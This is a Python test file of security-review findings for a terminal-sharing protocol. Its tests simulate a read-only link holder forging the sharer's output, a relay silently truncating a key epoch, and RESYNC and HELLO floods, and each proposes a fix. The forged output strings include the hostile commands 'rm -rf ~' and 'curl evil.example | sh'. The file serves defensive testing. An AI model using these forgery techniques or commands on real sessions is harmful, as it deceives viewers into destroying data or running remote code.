"""Security review findings on the sans-I/O protocol core (each test fails until fixed)."""

from __future__ import annotations

import os

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

from termshare.protocol import events as ev
from termshare.protocol.envelope import encode_frame, make_header, parse_frame
from termshare.protocol.keys import (
    SendChain,
    SessionKeys,
    channel_chain_keys,
    group_direct_key,
    group_signed_data,
    new_ed25519,
    new_x25519,
    nonce,
    welcome_signed_data,
    x25519,
)
from termshare.protocol.link import parse_link
from termshare.protocol.messages import (
    OutputMessage,
    SnapshotMessage,
    WelcomeMessage,
    encode_message,
    encode_welcome,
)
from termshare.protocol.viewer import ViewerProtocol, ViewerState
from termshare.protocol.wire import KEY_SIZE, SIG_SIZE, TAG_SIZE, FrameKind, Role
from tests.protocol.harness import GROUP_KINDS, Net, outputs


def test_relay_holding_read_only_link_cannot_impersonate_the_sharer() -> None:
    """ATTACK (relay + read-only link => forged output).

    PROTOCOL.md §3.3 says "A viewer, or a relay that holds a read-only link, cannot forge output",
    and §10 says the relay cannot "produce output that a viewer applies". But a read-only viewer
    authenticates its peer only with psk_ro, and the sharer's Ed25519 key PK reaches it only inside
    WELCOME. Anybody holding the read-only link (a public demo/iframe link, or any read-only viewer
    colluding with the relay operator) can answer a read-only viewer's HELLO itself: pick its own
    ES, compute the channel keys from psk_ro, and send a WELCOME carrying *its own* PK and group key.
    From then on it signs and encrypts whatever "terminal output" it likes (fake prompts,
    `curl evil | sh` instructions, fake phishing text) and the viewer shows it as the sharer's.

    Fix idea: bind the sharer's signing key to the link so a read-only holder can check PK, e.g.
    ro_secret = HKDF(PK || rw_secret-independent data...) or put a PK fingerprint in both links
    (`r.<ro_secret><fp(PK)>`), and have the viewer reject a WELCOME whose PK does not match.
    """
    net = Net()
    victim, attacker = _intercepted_read_only_viewer(net)
    sign_private, sign_public = new_ed25519(os.urandom)
    group_key = os.urandom(KEY_SIZE)
    attacker.welcome(sign_public, group_key, sign_private.sign(attacker.signed_data))
    attacker.snapshot()

    forged = encode_message(OutputMessage(b"rm -rf ~ # the sharer says: run this too\r\n"))
    gheader = make_header(FrameKind.GROUP, len(forged) + TAG_SIZE + SIG_SIZE, 0, 0, 0).pack()
    ciphertext = AESGCM(group_key).encrypt(nonce(0, 0), forged, attacker.sid.encode() + gheader)
    signature = sign_private.sign(group_signed_data(attacker.sid, gheader, ciphertext))
    victim.receive_frame(gheader + ciphertext + signature)

    shown = outputs(victim.events_received())
    assert b"rm -rf" not in shown, "a read-only link holder forged output that the viewer applied"


class _Interceptor:
    """A relay holding the read-only link that answers a victim's HELLO itself, with its own ES."""

    def __init__(self, victim: ViewerProtocol, sid: str, psk_ro: bytes) -> None:
        self.victim, self.sid, self.vid = victim, sid, 7
        victim.receive_frame(encode_frame(FrameKind.READY, b"\x01", self.vid))
        hello = parse_frame(victim.frames_to_send()[0])  # never forwarded to the sharer
        ev_public = hello.body[1 : 1 + KEY_SIZE]
        es_private, self.es_public = new_x25519(os.urandom)
        dh = x25519(es_private, ev_public)
        ck_s2v, _ = channel_chain_keys(dh, psk_ro, sid, self.vid, Role.READ_ONLY, ev_public, self.es_public)
        self.send = SendChain(ck_s2v, sid)
        self.group_direct = AESGCM(group_direct_key(ck_s2v, sid))
        self.signed_data = welcome_signed_data(sid, self.vid, Role.READ_ONLY, ev_public, self.es_public)

    def welcome(self, sign_public: bytes, group_key: bytes, signature: bytes) -> None:
        welcome = encode_welcome(WelcomeMessage(False, sign_public, 0, group_key, signature))
        header = make_header(FrameKind.WELCOME, KEY_SIZE + len(welcome) + TAG_SIZE, self.vid, *self.send.next_position())
        self.victim.receive_frame(header.pack() + self.es_public + self.send.seal(header, welcome))

    def snapshot(self) -> None:
        snap = encode_message(SnapshotMessage(0, 0, 80, 24, b"$ "))
        header = make_header(FrameKind.DIRECT, len(snap) + TAG_SIZE, self.vid, *self.send.next_position())
        self.victim.receive_frame(header.pack() + self.send.seal(header, snap))

    def group_direct_output(self, data: bytes) -> None:
        message = encode_message(OutputMessage(data))
        header = make_header(FrameKind.GROUP_DIRECT, len(message) + TAG_SIZE, self.vid, 0, 0).pack()
        self.victim.receive_frame(header + self.group_direct.encrypt(nonce(0, 0), message, self.sid.encode() + header))


def _intercepted_read_only_viewer(net: Net) -> tuple[ViewerProtocol, _Interceptor]:
    ro = parse_link(net.link(rw=False))
    keys = SessionKeys.from_secret(ro.sid, Role.READ_ONLY, ro.secret)  # all the attacker has
    assert keys.psk_ro is not None
    victim = ViewerProtocol(ro, os.urandom)
    return victim, _Interceptor(victim, ro.sid, keys.psk_ro)


def test_a_read_only_link_holder_cannot_answer_a_hello_with_the_sharers_own_public_key() -> None:
    """ATTACK (found in review of GROUP_DIRECT, bdf3077): the sharer's PK is no secret (every viewer
    gets it), so an interceptor holding the read-only link answers the victim's HELLO with the real
    PK (which matches the link's key_fp) and an ES of its own. Before WELCOME was signed over both
    ephemeral keys, it then held the victim's channel keys: it could forge SNAPSHOTs, REKEYs and
    GROUP_DIRECT output that the victim showed as live. Now no signature it can offer verifies: none,
    one by another key, or one the sharer really made (for the interceptor's own handshake)."""
    net = Net()
    _, spy = net.join(net.link(rw=False))  # the interceptor's own, genuine, read-only viewer
    assert spy._sign_key is not None and spy._group is not None
    real_pk = spy._sign_key.public_bytes_raw()
    # What the sharer really signs for some other handshake (the spy's own WELCOMEs carry such).
    _, other_es = new_x25519(os.urandom)
    sharers = net.share._sign_private.sign(
        welcome_signed_data(spy.sid, spy.viewer_id or 0, Role.READ_ONLY, spy._ev_public, other_es))
    other_private, _ = new_ed25519(os.urandom)
    for signature in (bytes(64), other_private.sign(b"anything"), sharers):
        victim, attacker = _intercepted_read_only_viewer(net)
        attacker.welcome(real_pk, os.urandom(KEY_SIZE), signature)
        attacker.snapshot()
        attacker.group_direct_output(b"curl evil.example | sh\r\n")
        events = victim.events_received()
        assert victim.state is ViewerState.CLOSED and not outputs(events), events
        assert victim.failure is not None and "not signed" in str(victim.failure)


def test_relay_cannot_silently_truncate_a_group_epoch() -> None:
    """ATTACK (undetected truncation at a group rotation).

    BRIEF property 5: truncated or dropped frames are detected and the viewer shows the stream
    broke. The viewer accepts the first frame of group epoch g+1 (seq 0) whatever its position in
    epoch g, because nothing tells it how many frames epoch g had (§6.2). The sharer rotates the
    group key whenever any viewer leaves (§3.3), so a relay can drop the tail of an epoch (e.g. the
    last lines of output before someone left: an error message, a warning, a typed command) and
    the viewer continues seamlessly, with no StreamBroken and no resync.

    Fix idea: REKEY carries the number of frames sent in the epoch it closes (the sharer knows it:
    rotation is lazy, right before the first frame of g+1), and the viewer accepts (g+1, 0) only
    when next_seq equals that count; otherwise it is a gap (StreamBroken + RESYNC).
    """
    net = Net()
    conn, victim = net.join()
    other, _ = net.join()
    victim.events_received()
    net.output(b"A: visible\r\n")

    dropping = {"on": True}

    def evil(frame: bytes, to: int) -> list[bytes]:
        if to == conn and dropping["on"] and parse_frame(frame).kind in GROUP_KINDS:
            return []
        return [frame]

    net.tamper = evil
    net.output(b"B: ERROR: the backup failed\r\n")  # dropped by the relay
    dropping["on"] = False
    net.leave(other)  # the sharer rotates the group key; VIEWERS(1) is frame (g+1, 0)
    net.output(b"C: done\r\n")

    events = victim.events_received()
    shown = outputs(events)
    assert b"C: done" not in shown or any(isinstance(e, ev.StreamBroken) for e in events), (
        "the relay dropped the tail of a group epoch and the viewer did not notice: "
        f"it showed {shown!r} as a continuous stream"
    )


def _direct_counter(net: Net, conn: int) -> dict[str, int]:
    counts = {"DIRECT": 0, "WELCOME": 0}

    def count(frame: bytes, to: int) -> list[bytes]:
        kind = parse_frame(frame).kind
        if to == conn and kind.name in counts:
            counts[kind.name] += 1
        return [frame]

    net.tamper = count
    return counts


def test_read_only_viewer_cannot_make_the_sharer_render_unbounded_snapshots() -> None:
    """ATTACK (RESYNC flood from a read-only viewer: CPU/bandwidth amplification).

    Each RESYNC is a 35-byte UPSTREAM frame; the sharer answers every one with a full SNAPSHOT:
    a complete pyte render of the screen (measured ~22 ms of the sharer's only event loop for a
    250x70 coloured screen) plus up to ~1 MiB encrypted and uploaded. Nothing limits the rate,
    so any read-only link holder (the public link of a demo) can pin the sharer's CPU, lag the
    sharer's *own* terminal (same loop), and fill the sharer's 8 MiB send queue, which makes
    `ShareSession._flush` drop everybody's output and `resync_all` snapshot every viewer.

    Fix idea: at most one outstanding/recent snapshot per viewer (e.g. ignore RESYNC while a
    snapshot for this viewer was sent less than ~0.5 s ago and no GROUP frame went out since, or
    coalesce to one snapshot per viewer per interval), and consider a per-viewer upstream budget.
    """
    net = Net()
    conn, attacker = net.join(net.link(rw=False))
    counts = _direct_counter(net, conn)
    for _ in range(100):  # all at the same instant (net.now does not move)
        attacker.send_resync()
    net.run()
    assert counts["DIRECT"] <= 5, f"100 RESYNCs at one instant made the sharer render {counts['DIRECT']} snapshots"


def test_one_viewer_connection_cannot_run_unbounded_handshakes() -> None:
    """ATTACK (HELLO flood on one admitted connection: sharer CPU + unbounded `_seen_hellos`).

    The relay forwards HELLO from a viewer at any time, any number of times (router.py
    `_from_viewer`), and the sharer answers each valid HELLO with an X25519 key generation, a DH,
    HKDFs, a WELCOME and a full SNAPSHOT render, and keeps each EV forever in `_seen_hellos`
    (a set that only grows for the life of the session). One read-only viewer on one websocket
    can therefore make the sharer do unbounded handshake + snapshot work and grow its memory by
    ~100 bytes per 67-byte frame it sends.

    Fix idea: the relay forwards at most one HELLO per viewer connection until it is admitted
    (plus one re-HELLO after SHARER_BACK), and drops/closes on HELLO from an admitted viewer; the
    sharer may also refuse a HELLO for a viewer id that already has a channel unless it came after
    a resume, and bound `_seen_hellos` (e.g. keep EVs only per live viewer id, since the viewer id
    is bound into the HELLO tag and the relay never reuses ids within a session).
    """
    from termshare.protocol.keys import hello_tag

    net = Net()
    ro = parse_link(net.link(rw=False))
    conn, attacker = net.join(net.link(rw=False))
    assert attacker.state is ViewerState.LIVE
    keys = SessionKeys.from_secret(ro.sid, Role.READ_ONLY, ro.secret)
    counts = _direct_counter(net, conn)
    vid = attacker.viewer_id
    assert vid is not None
    for _ in range(100):
        _, ev_public = new_x25519(os.urandom)
        header = make_header(FrameKind.HELLO, 1 + KEY_SIZE + TAG_SIZE, vid)
        tag = hello_tag(keys.psk_ro, ro.sid, header.pack(), Role.READ_ONLY, ev_public)
        net.router.received(conn, header.pack() + bytes((Role.READ_ONLY,)) + ev_public + tag, net.now)
    net.run()
    assert counts["WELCOME"] <= 2, f"one connection ran {counts['WELCOME']} handshakes with the sharer"
